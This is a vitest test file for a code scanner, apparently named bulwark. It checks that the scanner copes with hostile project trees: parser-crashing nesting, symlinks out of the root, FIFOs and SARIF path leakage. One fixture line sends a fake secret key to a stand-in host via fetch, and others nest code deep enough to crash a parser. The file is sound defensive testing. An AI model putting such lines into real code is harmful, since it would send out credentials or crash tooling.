// Hostile trees and inputs: nesting that crashes the parser, links out of the root, FIFOs and devices,
// a root that does not exist, and SARIF that must not carry this machine's paths.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type ScanIo, scanMain } from './scanMain.js';

function capture(cwd: string): ScanIo & { out: () => string; err: () => string } {
  let out = '';
  let err = '';
  return {
    cwd,
    stdout: { write: (t: string) => (out += t), isTTY: false },
    stderr: { write: (t: string) => (err += t), isTTY: false },
    out: () => out,
    err: () => err,
  };
}

function project(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'bulwark-robust-'));
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
  return dir;
}

type Report = {
  findings: { file: string; rule: string }[];
  problems: { file: string; kind: string; message: string }[];
};

const UNBOUNDED =
  "export async function load() {\n  await fetch('https://a.example/x', { method: 'POST' });\n}\n";

describe('scan robustness', () => {
  it('reports a file nested deeper than the parser survives and completes the scan (no exit 139)', async () => {
    // Prepare: 3,600 deep segfaulted oxc-parser 0.159 (the whole process); 1,500 overflowed its JS stack.
    const dir = project({
      'good.ts': UNBOUNDED,
      'parens.ts': `export const x = ${'('.repeat(3_600)}1${')'.repeat(3_600)};\n`,
      'ternaries.ts': `export const y = ${'a ? b : '.repeat(3_600)}c;\n`,
      'arrays.ts': `export const z = ${'['.repeat(1_500)}${']'.repeat(1_500)};\n`,
    });
    const io = capture(dir);

    // Act
    const code = await scanMain(['--format', 'json', '-q'], io);

    // Assess
    expect(code).toBe(0);
    const report = JSON.parse(io.out()) as Report;
    expect(report.findings.map((f) => f.file)).toContain('good.ts');
    const kinds = Object.fromEntries(report.problems.map((p) => [p.file, p.kind]));
    expect(kinds).toMatchObject({
      'parens.ts': 'too-deep',
      'ternaries.ts': 'too-deep',
      'arrays.ts': 'too-deep',
    });
  });

  it('never follows a link out of the root: a link to / and one to a folder holding a secret are reported', async () => {
    // Prepare
    const outside = project({
      'leak.ts': "const key = 'AKIA-OUTSIDE-SECRET'; fetch('https://x.example/' + key);\n",
    });
    const dir = project({ 'good.ts': UNBOUNDED });
    symlinkSync('/', join(dir, 'to-root'));
    symlinkSync(outside, join(dir, 'vendor'));
    symlinkSync(join(outside, 'leak.ts'), join(dir, 'leak.ts'));
    const io = capture(dir);

    // Act
    const code = await scanMain(['--format', 'json', '-q'], io);

    // Assess
    expect(code).toBe(0);
    expect(io.out()).not.toContain('AKIA-OUTSIDE-SECRET');
    const report = JSON.parse(io.out()) as Report;
    expect([...new Set(report.findings.map((f) => f.file))]).toEqual(['good.ts']);
    const kinds = Object.fromEntries(report.problems.map((p) => [p.file, p.kind]));
    expect(kinds).toMatchObject({
      'to-root': 'symlink-outside-root',
      vendor: 'symlink-outside-root',
      'leak.ts': 'symlink-outside-root',
    });
  });

  it('reports a FIFO or /dev/null named on the command line instead of "0 files", without blocking', async () => {
    // Prepare
    const dir = project({ 'good.ts': UNBOUNDED });
    const made = spawnSync('mkfifo', [join(dir, 'pipe.ts')]);
    expect(made.status).toBe(0);
    const io = capture(dir);

    // Act
    const code = await scanMain(
      ['pipe.ts', '/dev/null', 'good.ts', '--root', dir, '--format', 'json', '-q'],
      io,
    );

    // Assess
    expect(code).toBe(0);
    const report = JSON.parse(io.out()) as Report;
    expect([...new Set(report.findings.map((f) => f.file))]).toEqual(['good.ts']);
    expect(report.problems.map((p) => p.kind)).toEqual(['not-a-file', 'not-a-file']);
    expect(report.problems[0]?.file).toBe('pipe.ts');
    expect(report.problems[1]?.file).toMatch(/dev\/null$/);
  });

  it('exits 2 when --root does not exist or is a file', async () => {
    // Prepare
    const dir = project({ 'good.ts': UNBOUNDED });
    const missing = capture(dir);
    const file = capture(dir);

    // Act
    const missingCode = await scanMain(['--root', join(dir, 'nope')], missing);
    const fileCode = await scanMain(['--root', join(dir, 'good.ts')], file);

    // Assess
    expect(missingCode).toBe(2);
    expect(missing.err()).toMatch(/root .*nope.* is not a directory that exists/);
    expect(fileCode).toBe(2);
  });

  it('writes no absolute path into SARIF unless --sarif-base asks for one', async () => {
    // Prepare
    const dir = project({ 'good.ts': UNBOUNDED });
    const plain = capture(dir);
    const based = capture(dir);
    const bad = capture(dir);

    // Act
    await scanMain(['--format', 'sarif', '-q'], plain);
    await scanMain(['--format', 'sarif', '-q', '--sarif-base', 'file:///ci/repo/'], based);
    const badCode = await scanMain(['--format', 'sarif', '-q', '--sarif-base', 'repo'], bad);

    // Assess
    expect(plain.out()).not.toContain(dir);
    expect(plain.out()).not.toContain('file://');
    const run = (
      JSON.parse(based.out()) as { runs: { originalUriBaseIds: Record<string, { uri?: string }> }[] }
    ).runs[0];
    expect(run?.originalUriBaseIds['%SRCROOT%']?.uri).toBe('file:///ci/repo/');
    expect(badCode).toBe(2);
    expect(bad.err()).toMatch(/--sarif-base must be an absolute URI/);
  });

  it('skips a browser package below the root and says so', async () => {
    // Prepare
    const dir = project({
      'api/handler.ts': UNBOUNDED,
      'web/package.json': JSON.stringify({ dependencies: { react: '19.0.0', 'react-dom': '19.0.0' } }),
      'web/src/api.ts': UNBOUNDED,
    });
    const io = capture(dir);

    // Act
    await scanMain(['--format', 'json', '-q'], io);

    // Assess
    const report = JSON.parse(io.out()) as Report;
    expect([...new Set(report.findings.map((f) => f.file))]).toEqual(['api/handler.ts']);
    expect(report.problems).toEqual([
      { file: 'web', kind: 'browser-code', message: expect.stringMatching(/react-dom/) as unknown as string },
    ]);
  });
});
